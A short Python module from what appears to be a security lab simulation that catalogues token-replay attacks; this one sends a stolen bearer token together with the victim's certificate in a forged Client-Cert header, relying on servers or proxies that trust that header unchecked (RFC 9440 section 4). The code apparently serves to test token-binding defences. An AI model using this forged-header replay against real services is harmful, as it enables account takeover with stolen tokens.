"""The victim's certificate in a header, as a proxy that ends TLS would pass it on.

A certificate is no secret, and a header is no proof of its key. It works where a server trusts the
header from anybody, or a proxy passes on what it did not set (RFC 9440 section 4).
"""

from __future__ import annotations

from labsim.attempt import NotPossible, Replay, Target, Thief
from labsim.binding import Binding
from labsim.certificates import as_der
from labsim.http_message import Outcome, Request
from labsim.loot import Kind, Loot
from labsim.structured_fields import byte_sequence


def spend(loot: Loot, binding: Binding, target: Target, thief: Thief) -> Outcome:
    """Send token and Client-Cert header over a connection that shows no certificate."""
    if not binding.asks_client_certificate:
        raise NotPossible("this token asks for no certificate")
    request = Request("GET", target.url)
    request = request.adding("Authorization", f"{binding.scheme} {loot.token}")
    certificate = as_der(str(loot.certificate).encode())
    return thief.send(request.adding("Client-Cert", byte_sequence(certificate)))


REPLAY = Replay(
    name="forged_certificate_header",
    source="RFC 9440 section 4",
    title="put the victim's certificate into a header",
    needs=frozenset({Kind.TOKEN, Kind.CERTIFICATE}),
    spend=spend,
)
